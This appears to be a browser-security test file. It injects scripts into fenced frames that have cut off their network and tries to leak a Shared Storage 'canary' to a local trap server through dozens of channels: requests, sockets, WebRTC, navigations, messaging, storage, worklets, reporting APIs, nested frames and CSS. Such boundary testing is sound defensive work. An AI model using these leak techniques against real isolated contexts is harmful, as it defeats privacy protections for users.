// Fenced frames of the victim that have given up their network, and so may read the canary, and try to hand it out.

/**
 * The document in the fenced frame gives up its network, reads the canary, and makes these attempts: functions of the canary, U, a URL of the trap with it, and `kept`, what `prepare` gave before.
 * @param {Record<string, string>} attempts
 */
const inFrame = (attempts, prepare = '') => `(async () => {
  const kept = await (async () => { ${prepare} })();
  const early = await sharedStorage.get('canary').then(() => 'read too early', ({ name }) => name);
  await fence.disableUntrustedNetwork();
  const canary = await sharedStorage.get('canary');
  const U = STAGE.trap + canary;
  const outcomes = [early, canary === undefined ? 'not read' : 'read'];
  const attempts = { ${Object.entries(attempts).map(([name, code]) => `${JSON.stringify(name)}: () => ${code}`)} };
  for (const name in attempts) {
    const outcome = (async () => attempts[name]())().then(() => 'done', ({ name }) => name);
    outcomes.push(name + ': ' + await Promise.race([outcome, new Promise((resolve) => setTimeout(resolve, 400, 'no answer'))]));
  }
  return outcomes.join(', ');
})()`;

/** @param {import('../case.mjs').Act} act @param {string} expression */
async function drive({ browser, origins, got }, expression) {
  const frame = await browser.attach(({ type, url }) => type === 'iframe' && url.startsWith(`${origins.victim}/fenced.html`));
  await frame.evaluate(
    `new Promise((resolve) => { const wait = () => (document.readyState === 'complete' && globalThis.fence ? resolve() : setTimeout(wait, 10)); wait(); })`,
  );
  const outcomes = await frame.evaluate(expression);
  if (!String(outcomes).includes(', read')) throw new Error(`the fenced frame did not get what it may have: ${outcomes}`);
  got(outcomes);
}

/** @type {Record<string, import('../case.mjs').Answer>} */
const SERVE = {
  '/fenced.html': (_request, response, origins) =>
    response
      .writeHead(200, { 'Content-Type': 'text/html', 'Supports-Loading-Mode': 'fenced-frame' })
      .end(`<!doctype html><script>const STAGE = ${JSON.stringify(origins)}</script><title>fenced</title><body>`),
  '/nested.html': { headers: { 'Supports-Loading-Mode': 'fenced-frame' }, body: '<!doctype html><title>nested</title><body>' },
  '/sw.js': `onfetch = () => {}; onmessage = ({ data }) => fetch(data);`,
};

const PAGE = `
  kit.listenEverywhere();
  addEventListener('click', () => kit.got('click'), true);
  for (const name of ['canary', 'c']) { new BroadcastChannel(name).onmessage = ({ data }) => kit.got('channel', data); }
  const frame = document.createElement('fencedframe');
  frame.config = new FencedFrameConfig(stage.victim + '/fenced.html');
  document.body.append(frame);
  globalThis.looking = setInterval(() => kit.got(frame, frame.getBoundingClientRect().width, window.length, history.length, document.activeElement, localStorage.getItem('canary'), document.cookie), 500);`;

/** @param {string} name @param {string} what @param {Record<string, string>} attempts @param {string} [prepare] @returns {import('../case.mjs').Attack} */
const fenced = (name, what, attempts, prepare) => ({
  name: `fenced-${name}`,
  // A frame of another site is a target of its own, in which this can be evaluated.
  as: 'attacker',
  isForeign: false,
  framesMayKnow: true,
  tries: `A fenced frame that has cut itself off and has read the canary ${what}.`,
  serve: SERVE,
  page: PAGE,
  drive: (act) => drive(act, inFrame(attempts, prepare)),
});

/** @type {import('../case.mjs').Attack[]} */
export default [
  fenced('requests', 'asks the trap for it, by every kind of request', {
    fetch: 'fetch(U)',
    later: 'fetchLater(U)',
    keepalive: `fetch(U, { keepalive: true, mode: 'no-cors' })`,
    beacon: 'navigator.sendBeacon(U, canary)',
    xhr: `{ const x = new XMLHttpRequest(); x.open('GET', U); x.send(); }`,
    image: 'new Image().src = U',
    style: `document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: U }))`,
    script: `import(U)`,
    font: `new FontFace('f', 'url(' + U + ')').load()`,
    prefetch: `document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: U }))`,
  }),
  fenced('sockets', 'opens sockets and connections to the trap', {
    socket: `new WebSocket(U.replace('http', 'ws'))`,
    stream: `new WebSocketStream(U.replace('http', 'ws'))`,
    source: 'new EventSource(U)',
    transport: `new WebTransport('https://127.0.0.1:' + STAGE.trapPort + '/' + canary)`,
    rtc: `{ const c = new RTCPeerConnection({ iceServers: [{ urls: 'turn:127.0.0.1:' + STAGE.trapPort, username: canary, credential: 'x' }] }); c.createDataChannel('c'); c.createOffer().then((o) => c.setLocalDescription(o)); }`,
  }),
  fenced('navigations', 'leads itself, its tab and new windows to the trap', {
    open: `open(U)`,
    top: `open(U, '_top')`,
    unfenced: `open(U, '_unfencedTop')`,
    link: `{ const a = Object.assign(document.createElement('a'), { href: U, target: '_blank' }); document.body.append(a); a.click(); }`,
    unfencedLink: `{ const a = Object.assign(document.createElement('a'), { href: U, target: '_unfencedTop' }); document.body.append(a); a.click(); }`,
    form: `{ const f = Object.assign(document.createElement('form'), { action: U, method: 'post', target: '_blank' }); document.body.append(f); f.submit(); }`,
    download: `{ const a = Object.assign(document.createElement('a'), { href: U, download: '' }); a.click(); }`,
    history: `history.pushState(canary, '', '/fenced.html?own')`,
    navigation: `navigation.navigate('#x', { state: 'x' })`,
    self: `{ setTimeout(() => { location.href = U; }, 300); }`,
  }),
  fenced('messages', 'sends it to whoever may listen: parent, top, opener, channels', {
    parent: `parent.postMessage(canary, '*')`,
    top: `top.postMessage(canary, '*')`,
    opener: `opener?.postMessage(canary, '*')`,
    frames: `top.frames[0].postMessage(canary, '*')`,
    port: `{ const { port1, port2 } = new MessageChannel(); parent.postMessage('port', '*', [port2]); port1.postMessage(canary); }`,
    event: `document.dispatchEvent(new CustomEvent('canary', { detail: canary, bubbles: true, composed: true }))`,
    parentEvent: `window.parent.dispatchEvent(new MessageEvent('message', { data: canary }))`,
  }),
  fenced('storage', 'leaves it in storage that its page could read as well', {
    local: `localStorage.setItem('canary', canary)`,
    session: `sessionStorage.setItem('canary', canary)`,
    cookie: `document.cookie = 'canary=' + canary + '; path=/'`,
    store: `cookieStore.set('canary', canary)`,
    channel: `new BroadcastChannel('canary').postMessage(canary)`,
    database: `indexedDB.open(canary)`,
    cache: `caches.open(canary)`,
    name: `window.name = canary`,
    lock: `navigator.locks.request(canary, () => {})`,
    url: `URL.createObjectURL(new Blob([canary]))`,
  }),
  fenced('api-fetches', 'has the extension fetch for it: modules, trusted origins, marked and repeated requests', {
    module: `sharedStorage.worklet.addModule(U)`,
    worklet: `sharedStorage.createWorklet(U)`,
    origin: `sharedStorage.createWorklet('/nested.html?' + canary, { dataOrigin: 'http://' + canary + '.localhost:' + STAGE.trapPort })`,
    script: `sharedStorage.createWorklet('http://' + canary + '.localhost:' + STAGE.trapPort + '/m.js', { dataOrigin: 'script-origin' })`,
    marked: `fetch(U, { sharedStorageWritable: true })`,
    image: `{ const image = new Image(); image.sharedStorageWritable = true; image.src = U; }`,
    markup: `{ document.body.insertAdjacentHTML('beforeend', '<img sharedstoragewritable src="' + U + '">'); }`,
    iframe: `{ const f = document.createElement('iframe'); f.sharedStorageWritable = true; f.src = U; document.body.append(f); }`,
  }),
  fenced('reports', 'reports it, by events, automatic beacons and contributions', {
    event: `fence.reportEvent({ eventType: 'click', eventData: canary, destination: ['buyer', 'seller', 'shared-storage-select-url'] })`,
    url: `fence.reportEvent({ destinationURL: U })`,
    automatic: `fence.setReportEventDataForAutomaticBeacons({ eventType: 'reserved.top_navigation_start', eventData: canary, destination: ['buyer'] })`,
    notify: `fence.notifyEvent(new Event('click'))`,
    contribution: `privateAggregation.contributeToHistogram({ bucket: 1n, value: 1 })`,
    leave: `{ const a = Object.assign(document.createElement('a'), { href: U, target: '_unfencedTop', ping: U }); document.body.append(a); a.click(); }`,
    context: `fence.getNestedConfigs()`,
    attribution: `new Image().attributionSrc = U`,
  }),
  {
    ...fenced(
      'late-frames',
      'connects to the trap from frames that it makes then, at once',
      {
        empty: `connect(document.body.appendChild(document.createElement('iframe')).contentWindow)`,
        written: `{ const f = document.body.appendChild(document.createElement('iframe')); f.contentDocument.write('<p>'); f.contentDocument.close(); return connect(f.contentWindow); }`,
        pending: `connect(document.body.appendChild(Object.assign(document.createElement('iframe'), { src: '/nested.html' })).contentWindow)`,
        sandboxed: `{ const f = document.createElement('iframe'); f.setAttribute('sandbox', 'allow-scripts allow-same-origin'); document.body.append(f); return connect(f.contentWindow); }`,
      },
      `globalThis.connect = async (view) => {
      const connection = new view.RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:' + STAGE.trapPort }] });
      connection.createDataChannel('c'); await connection.setLocalDescription(await connection.createOffer());
    };`,
    ),
    limit: ['trap'],
  },
  fenced('nested', 'makes frames of every kind that lead to the trap', {
    iframe: `document.body.append(Object.assign(document.createElement('iframe'), { src: U }))`,
    srcdoc: `document.body.append(Object.assign(document.createElement('iframe'), { srcdoc: '<img src="' + U + '">' }))`,
    sandboxed: `{ const f = document.createElement('iframe'); f.setAttribute('sandbox', 'allow-scripts'); f.srcdoc = '<script>fetch("' + U + '", { mode: "no-cors" })<' + '/script>'; document.body.append(f); }`,
    data: `document.body.append(Object.assign(document.createElement('iframe'), { src: 'data:text/html,<img src="' + U + '">' }))`,
    blob: `document.body.append(Object.assign(document.createElement('iframe'), { src: URL.createObjectURL(new Blob(['<img src="' + U + '">'], { type: 'text/html' })) }))`,
    fenced: `{ const f = document.createElement('fencedframe'); f.config = new FencedFrameConfig(U); document.body.append(f); }`,
    object: `document.body.append(Object.assign(document.createElement('object'), { data: U }))`,
    embed: `document.body.append(Object.assign(document.createElement('embed'), { src: U }))`,
    javascript: `document.body.append(Object.assign(document.createElement('iframe'), { src: 'javascript:fetch("' + U + '")' }))`,
  }),
  fenced(
    'prepared',
    'uses frames, workers and URNs that it made before it cut itself off',
    {
      worker: `kept.worker?.postMessage(U)`,
      frame: `kept.frame.contentWindow.fetch(U)`,
      image: `new kept.frame.contentWindow.Image().src = U`,
      socket: `new kept.frame.contentWindow.WebSocket(U.replace('http', 'ws'))`,
      post: `kept.sandboxed.contentWindow.postMessage(U, '*')`,
      worklet: `sharedStorage.run('x', { data: canary })`,
      removed: `(kept.frame.remove(), kept.fetch.call(window, U))`,
    },
    `
    const frame = document.body.appendChild(document.createElement('iframe'));
    const sandboxed = document.createElement('iframe'); sandboxed.setAttribute('sandbox', 'allow-scripts');
    sandboxed.srcdoc = '<script>onmessage = ({ data }) => { fetch(data, { mode: "no-cors" }); new Image().src = data; }<' + '/script>';
    document.body.append(sandboxed); await new Promise((resolve) => { sandboxed.onload = resolve; });
    let worker; try { worker = new Worker(URL.createObjectURL(new Blob(['onmessage = ({ data }) => fetch(data, { mode: "no-cors" })']))); } catch {}
    return { frame, sandboxed, worker, fetch: frame.contentWindow.fetch };`,
  ),
  fenced('markup', 'writes markup, styles and rules with URLs of the trap', {
    html: `document.body.insertAdjacentHTML('beforeend', '<video poster="' + U + '"></video><img srcset="' + U + ' 2x"><link rel=stylesheet href="' + U + '"><input type=image src="' + U + '">')`,
    css: `document.head.append(Object.assign(document.createElement('style'), { textContent: '@import "' + U + '"; body { background: url(' + U + '); cursor: url(' + U + '), auto }' }))`,
    write: `document.write('<img src="' + U + '">')`,
    meta: `document.head.insertAdjacentHTML('beforeend', '<meta http-equiv=refresh content="0;url=' + U + '">')`,
    speculation: `{ const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = JSON.stringify({ prefetch: [{ urls: [U] }], prerender: [{ urls: [U] }] }); document.head.append(s); }`,
    svg: `document.body.insertAdjacentHTML('beforeend', '<svg><image href="' + U + '"/><use href="' + U + '#x"/></svg>')`,
    policy: `document.head.insertAdjacentHTML('beforeend', '<meta http-equiv="Content-Security-Policy" content="img-src none; report-uri ' + U + '">')`,
  }),
  {
    ...fenced('hints', 'tells the browser to look up names with it, and to connect to the trap, ahead of requests that never come', {
      preconnect: `document.head.append(Object.assign(document.createElement('link'), { rel: 'preconnect', href: U }))`,
      dns: `document.head.append(Object.assign(document.createElement('link'), { rel: 'dns-prefetch', href: '//' + canary + '.localhost:' + STAGE.trapPort }))`,
    }),
    limit: ['network', 'trap'],
  },
  {
    name: 'fenced-too-early',
    as: 'attacker',
    isForeign: false,
    tries: 'A fenced frame that still has its network reads the canary, in every way that it has.',
    serve: SERVE,
    page: PAGE,
    drive: (act) => driveEarly(act),
  },
];

/** @param {import('../case.mjs').Act} act */
async function driveEarly({ browser, origins, got }) {
  const frame = await browser.attach(({ type, url }) => type === 'iframe' && url.startsWith(`${origins.victim}/fenced.html`));
  await frame.evaluate(
    `new Promise((resolve) => { const wait = () => (document.readyState === 'complete' && globalThis.fence ? resolve() : setTimeout(wait, 10)); wait(); })`,
  );
  const asked = await frame.evaluate(`(async () => {
    const found = [];
    const child = document.body.appendChild(document.createElement('iframe'));
    for (const ask of [() => sharedStorage.get('canary'), () => child.contentWindow.sharedStorage.get('canary'), () => SharedStorage.prototype.get.call(sharedStorage, 'canary'), () => sharedStorage.entries()])
      try { found.push(String(await ask())); } catch (error) { found.push(error.name); }
    return found.join();
  })()`);
  got(asked);
}
